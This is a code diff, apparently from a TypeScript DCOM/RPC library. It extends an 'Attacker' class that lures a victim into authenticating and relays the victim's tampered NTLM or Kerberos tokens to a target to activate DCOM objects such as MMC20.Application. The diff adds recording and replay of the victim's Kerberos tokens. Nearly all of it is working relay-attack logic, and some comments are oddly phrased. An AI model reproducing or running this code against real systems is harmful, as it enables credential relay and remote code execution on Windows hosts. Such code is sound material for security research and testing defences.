@@ -17,6 +17,7 @@ import {
   IRemUnknown,
   type OBJREF,
 } from '../codec/dcom/index.js';
+import type { InterfaceDef } from '../codec/ndr/index.js';
 import { isNtlm } from '../codec/ntlm/index.js';
 import { IDispatch } from '../codec/oaut/index.js';
 import { type Pdu, RPC_C_AUTHN } from '../codec/rpce/index.js';
@@ -27,7 +28,7 @@ import type { ClientSecurityOptions } from '../rpc/index.js';
 import type { Milliseconds } from '../security/index.js';
 import { claiming } from './claims.js';
 import { gate } from './gate.js';
-import type { RelayedHandshake } from './handshake.js';
+import { RelayedHandshake } from './handshake.js';
 import { RelayedInitiator } from './keyless-contexts.js';
 import { tampered } from './tamper.js';
 import type { RelayVariant } from './variants.js';
@@ -58,6 +59,8 @@ export interface AttackerOptions extends Environment {
   readonly variant: RelayVariant;
   /** Of any class but MMC20.Application the activation is all that he is after. That one where absent. */
   readonly wanted?: WantedClass;
+  /** The target's service name, for tickets that are given it. */
+  readonly service?: string | undefined;
   /** Has a victim authenticate, and gives that authentication. */
   readonly lure: () => Promise<RelayedHandshake>;
   readonly timeout: Milliseconds;
@@ -78,6 +81,8 @@ export class Attacker {
   readonly #options: AttackerOptions;
   readonly #connections: RpcConnection[] = [];
   #handshake: RelayedHandshake | undefined;
+  /** The victim's tokens as they went to the target, where they are to go there again. */
+  readonly #recorded: Uint8Array[] = [];
   stage: Stage = 'lured';
 
   constructor(options: AttackerOptions) {
@@ -106,10 +111,12 @@ export class Attacker {
   async #activate(): Promise<ActivationReply> {
     const { target, random, variant, wanted = MMC20 } = this.#options;
     const { clsid, iids, method = 'RemoteCreateInstance' } = goalOf(wanted) === 'invoked' ? MMC20 : wanted;
-    const { connection, security } = await this.#connect(target);
-    const contexts = new ContextConnection({ connection, security });
     const older = method === 'RemoteActivation';
-    await this.#bound(() => contexts.context(older ? IActivation : IRemoteSCMActivator));
+    const activator = older ? IActivation : IRemoteSCMActivator;
+    const again = variant.kerberos?.replayed ? await this.#letThrough(activator) : undefined;
+    const { connection, security } = await this.#connect(target, again);
+    const contexts = new ContextConnection({ connection, security });
+    await this.#bound(() => contexts.context(activator));
     this.stage = 'bound';
     const { outcome, reply } = await activateOver(contexts, {
       ...{ clsid, iids, method },
@@ -120,6 +127,17 @@ export class Attacker {
     if (reply === undefined) throw new Refused('the relayed activation', outcome);
     this.stage = 'activated';
     return reply;
+  }
+
+  /** The victim's authentication reaches the target as it was meant; what was sent is kept, to be sent again. */
+  async #letThrough(activator: InterfaceDef): Promise<RelayedHandshake> {
+    const { connection, security } = await this.#connect(this.#options.target);
+    await this.#bound(() => new ContextConnection({ connection, security }).context(activator));
+    const { authType, victimLevel, victim } = this.#handshake as RelayedHandshake;
+    const again = new RelayedHandshake(authType, victimLevel, victim);
+    for (const token of this.#recorded) again.fromVictim.put(token);
+    again.fromVictim.fail(new Error('nothing further was recorded'));
+    return again;
   }
 
   /** A second authentication of the victim's, for the exporter's port; then calls by IDispatch. */
@@ -156,9 +174,12 @@ export class Attacker {
     }
   }
 
-  async #connect(target: Target): Promise<{ connection: RpcConnection; security: ClientSecurityOptions }> {
+  async #connect(
+    target: Target,
+    again?: RelayedHandshake,
+  ): Promise<{ connection: RpcConnection; security: ClientSecurityOptions }> {
     const { variant, network, address, lure, random, clock, timers, timeout } = this.#options;
-    const handshake = await lure();
+    const handshake = again ?? (await lure());
     this.#handshake = handshake;
     const { authType } = handshake;
     const context = new RelayedInitiator(authType, await this.#fromVictim(handshake));
@@ -175,6 +196,7 @@ export class Attacker {
         );
         return claiming(channel, variant.claim, {
           authType,
+          mechanism: variant.kerberos === undefined ? 'NTLM' : 'Kerberos',
           authContextId: AUTH_CONTEXT_ID,
           random,
           firstSequence: () => handshake.victimSigned,
@@ -190,7 +212,10 @@ export class Attacker {
   async #fromVictim(handshake: RelayedHandshake): Promise<Uint8Array> {
     const token = await handshake.fromVictim.take();
     if (handshake.authType === RPC_C_AUTHN.GSS_NEGOTIATE && hasMic(token)) handshake.victimSigned++;
-    return tampered(token, this.#options.variant.tampering);
+    const { variant, service } = this.#options;
+    const sent = tampered(token, variant.tampering, service);
+    if (variant.kerberos?.replayed) this.#recorded.push(sent);
+    return sent;
   }
 
   /** A token of the server's goes to the victim, and its answer has to be there before the server's PDU is taken. */
